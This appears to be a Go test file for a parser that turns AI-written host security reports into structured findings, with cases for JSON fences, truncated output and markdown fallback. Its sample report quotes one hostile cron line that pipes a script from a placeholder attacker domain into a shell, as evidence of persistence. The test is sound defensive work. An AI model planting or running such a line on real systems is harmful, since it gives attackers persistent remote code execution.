package ai

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const sampleResponse = "## Executive Summary\nA cron-based persistence mechanism was found.\n\n" +
	"### Suspicious Cron Entry\n" +
	"**Severity**: high\n" +
	"**Confidence**: 0.85\n" +
	"**MITRE ATT&CK**: T1053.003\n" +
	"**Description**: A cron job downloads and executes a remote script.\n" +
	"**Remediation**: Remove the cron entry and block the domain.\n\n" +
	"## Risk Assessment\nHigh risk of persistence.\n\n" +
	"```json\n" +
	`{"summary":"Cron persistence found","overall_risk":"high","findings":[{"title":"Suspicious Cron Entry","severity":"high","confidence":0.85,"description":"A cron job downloads and executes a remote script.","technique_ids":["T1053.003"],"indicators":[{"type":"domain","value":"evil.example.com"}],"remediation_steps":["Remove the cron entry"],"raw_evidence":"* * * * * curl evil.example.com | sh"}]}` +
	"\n```\n"

func TestExtractResultFromJSONFence(t *testing.T) {
	result, err := ExtractResult(sampleResponse)
	require.NoError(t, err)
	require.Len(t, result.Findings, 1)

	f := result.Findings[0]
	assert.Equal(t, "Suspicious Cron Entry", f.Title)
	assert.Equal(t, "high", f.Severity)
	assert.Equal(t, []string{"T1053.003"}, f.TechniqueIDs)
	assert.Equal(t, "high", result.OverallRisk)
	require.Len(t, f.Indicators, 1)
	assert.Equal(t, "domain", f.Indicators[0].Type)
}

func TestExtractResultUsesLastFence(t *testing.T) {
	text := "Example output:\n```json\n{\"findings\":[{\"title\":\"Example\"}]}\n```\n" +
		"Actual result:\n```json\n{\"findings\":[{\"title\":\"Real Finding\",\"severity\":\"low\"}]}\n```\n"

	result, err := ExtractResult(text)
	require.NoError(t, err)
	require.Len(t, result.Findings, 1)
	assert.Equal(t, "Real Finding", result.Findings[0].Title)
}

func TestExtractResultTruncatedFence(t *testing.T) {
	// Stream cut off mid-string, closing fence never arrived.
	text := "Report body.\n```json\n" +
		`{"summary":"partial","findings":[{"title":"Truncated Finding","severity":"medium","confidence":0.5,"description":"cut off mid-sent`

	result, err := ExtractResult(text)
	require.NoError(t, err)
	require.Len(t, result.Findings, 1)
	assert.Equal(t, "Truncated Finding", result.Findings[0].Title)
	assert.Equal(t, "medium", result.Findings[0].Severity)
}

func TestExtractResultMarkdownFallback(t *testing.T) {
	text := "## Executive Summary\nSomething looks off.\n\n" +
		"### Rogue SSH Key\n" +
		"**Severity**: critical\n" +
		"**Confidence**: 90%\n" +
		"**MITRE ATT&CK**: T1098.004, T1021\n" +
		"**Description**: Unknown key in authorized_keys.\n" +
		"**Remediation**: Revoke the key.\n\n" +
		"### Odd Listener\n" +
		"**Description**: Unrecognised service on port 4444.\n\n" +
		"## Risk Assessment\nSevere.\n"

	result, err := ExtractResult(text)
	require.NoError(t, err)
	require.Len(t, result.Findings, 2)

	first := result.Findings[0]
	assert.Equal(t, "Rogue SSH Key", first.Title)
	assert.Equal(t, "critical", first.Severity)
	assert.Equal(t, 0.9, first.Confidence)
	assert.Equal(t, []string{"T1098.004", "T1021"}, first.TechniqueIDs)
	assert.Equal(t, []string{"Revoke the key."}, first.RemediationSteps)

	// Defaults apply where fields are absent.
	second := result.Findings[1]
	assert.Equal(t, "medium", second.Severity)
	assert.Equal(t, 0.5, second.Confidence)
}

func TestExtractResultSkipsNarrativeSections(t *testing.T) {
	text := "### Executive Summary\nclean\n### Risk Assessment\nlow\n### Remediation Summary\nnothing\n"

	_, err := ExtractResult(text)
	assert.Error(t, err)
}

func TestExtractResultEmptyFindingsIsValid(t *testing.T) {
	text := "Clean host.\n```json\n{\"summary\":\"clean\",\"overall_risk\":\"info\",\"findings\":[]}\n```\n"

	result, err := ExtractResult(text)
	require.NoError(t, err)
	assert.Empty(t, result.Findings)
	assert.Equal(t, "info", result.OverallRisk)
}

func TestRepairJSON(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  string
	}{
		{
			name:  "unterminated string",
			input: `{"title": "cut of`,
			want:  `{"title": "cut of"}`,
		},
		{
			name:  "trailing comma",
			input: `{"a": 1,`,
			want:  `{"a": 1}`,
		},
		{
			name:  "nested open brackets",
			input: `{"findings": [{"title": "x"}`,
			want:  `{"findings": [{"title": "x"}]}`,
		},
		{
			name:  "already balanced",
			input: `{"a": 1}`,
			want:  `{"a": 1}`,
		},
		{
			name:  "escaped quote inside string",
			input: `{"a": "he said \"hi`,
			want:  `{"a": "he said \"hi"}`,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, repairJSON(tc.input))
		})
	}
}

func TestParseConfidenceString(t *testing.T) {
	tests := []struct {
		input string
		want  float64
		ok    bool
	}{
		{"0.75", 0.75, true},
		{"75%", 0.75, true},
		{"3/4", 0.75, true},
		{"1", 1, true},
		{"", 0, false},
		{"very high", 0, false},
		{"1/0", 0, false},
	}
	for _, tc := range tests {
		t.Run(tc.input, func(t *testing.T) {
			got, ok := parseConfidenceString(tc.input)
			assert.Equal(t, tc.ok, ok)
			if tc.ok {
				assert.InDelta(t, tc.want, got, 1e-9)
			}
		})
	}
}
